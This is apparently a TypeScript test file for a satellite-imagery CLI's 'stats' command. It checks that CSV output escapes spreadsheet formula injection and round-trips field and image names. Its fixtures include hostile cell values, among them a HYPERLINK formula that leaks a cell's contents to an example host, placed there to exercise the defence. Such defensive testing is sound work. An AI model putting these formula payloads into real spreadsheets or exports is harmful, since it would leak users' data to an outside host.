// `sat-imagery stats` with a fields file and an image whose names a spreadsheet would run as
// formulas (OWASP "CSV injection"): every text cell that begins with =, +, -, @, a tab or a carriage
// return is written with a single quote before it, and quoted, in the file and on standard output;
// numbers stay numbers; and the table read back (as the map reads it) gives the names as they were.
import * as assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readStatsCsv } from '../../../src/stats/index';
import { buildCli, runCli } from '../fixtures/cli-helpers';
import { fieldsFor, makeImages, writeFields } from './stats-fixture';

/** What a repository's fields file may name its fields: each but the last a formula to a spreadsheet. */
const HOSTILE_IDS = [
  '=HYPERLINK("https://example.com/?leak="&A1,"open")',
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
];
/** An image named as a formula too: its name is the table's `image` cell. */
const HOSTILE_IMAGE = '@SUM(1+1)-2024-05-01.tif';

/** A spreadsheet's reading of one record: its cells, unquoted (RFC 4180). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let text = '';
      let i = at + 1;
      for (;;) {
        const end = line.indexOf('"', i);
        text += line.slice(i, end);
        if (line[end + 1] === '"') {
          text += '"';
          i = end + 2;
        } else {
          at = end + 2;
          break;
        }
      }
      cells.push(text);
    } else {
      const end = line.indexOf(',', at);
      cells.push(line.slice(at, end < 0 ? line.length : end));
      at = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

/** The records of a table whose cells hold no line break but a lone carriage return: split on CRLF. */
function recordsOf(table: string): string[][] {
  return table.split('\r\n').slice(1, -1).map(cellsOf);
}

/** A cell a spreadsheet would take for a formula: it begins with one of OWASP's characters and is no number. */
function runsAsFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell));
}

describe('stats: cells a spreadsheet would run', function () {
  this.timeout(120_000);
  let dir: string;
  let fields: string;
  before(async () => {
    buildCli();
    dir = mkdtempSync(join(tmpdir(), 'stats-csv-cells-'));
    makeImages(dir);
    copyFileSync(join(dir, 'utm-2024-05-01.tif'), join(dir, HOSTILE_IMAGE));
    fields = join(dir, 'hostile.geojson');
    const plain = fieldsFor(200, 150);
    await writeFields(
      join(dir, 'utm-2024-05-01.tif'),
      HOSTILE_IDS.map((id, i) => ({ ...plain[i]!, id })),
      fields,
    );
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  // B8 negated: the statistics are negative numbers, which a spreadsheet must still read as numbers.
  const stats = (...args: string[]) =>
    runCli(['stats', fields, HOSTILE_IMAGE, '--expression', 'B8*-1', ...args], {
      cwd: dir,
      // The row cache of a table written to a file goes to the scratch folder, not the user's.
      env: { XDG_CACHE_HOME: join(dir, '.cache') },
    });

  function assertNeutralised(table: string, where: string): void {
    const records = recordsOf(table);
    assert.equal(records.length, HOSTILE_IDS.length, where);
    for (const cells of records) {
      const [field, , , mean, , , min] = cells;
      assert.equal(cells.length, 16, `${where}: ${cells.join(' | ')}`);
      assert.ok(field?.startsWith("'"), `${where}: the field cell ${JSON.stringify(field)} starts with a quote`);
      assert.equal(cells.filter(runsAsFormula).length, 0, `${where}: ${JSON.stringify(cells)}`);
      assert.equal(cells.at(-1), `'${HOSTILE_IMAGE}`, `${where}: the image cell`);
      // A field with pixels has a negative mean and min, written as the numbers they are.
      if (mean !== '') {
        assert.match(mean!, /^-\d+(\.\d+)?(e-\d+)?$/, `${where}: the mean`);
        assert.match(min!, /^-\d/, `${where}: the min`);
      }
    }
    // The formula's own quotes are doubled inside the quoted cell.
    assert.ok(
      table.includes(`"'=HYPERLINK(""https://example.com/?leak=""&A1,""open"")",2024-05-01,`),
      `${where}: ${table}`,
    );
    assert.ok(
      records.some(([, , , mean]) => mean !== ''),
      `${where}: some field has pixels`,
    );
  }

  it('--csv: every text cell a spreadsheet would run is quoted and begins with a single quote; numbers stay numbers', async () => {
    const run = await stats('--csv', 'hostile.csv');
    assert.equal(run.code, 0, run.stderr);
    assertNeutralised(readFileSync(join(dir, 'hostile.csv'), 'utf8'), 'the file');
  });

  it('standard output: the same cells', async () => {
    const run = await stats();
    assert.equal(run.code, 0, run.stderr);
    assertNeutralised(run.stdout, 'stdout');
  });

  it('the table read back (as the map reads it) gives every field and image name as it was', async () => {
    const run = await stats('--csv', 'round-trip.csv');
    assert.equal(run.code, 0, run.stderr);
    const rows = readStatsCsv(readFileSync(join(dir, 'round-trip.csv'), 'utf8'), 'round-trip.csv');
    assert.deepEqual(
      rows.map((row) => row.field),
      HOSTILE_IDS,
    );
    assert.deepEqual([...new Set(rows.map((row) => row.image))], [HOSTILE_IMAGE]);
    assert.ok(
      rows.some((row) => row.mean !== undefined && row.mean < 0),
      'the negative means read back as numbers',
    );
  });
});
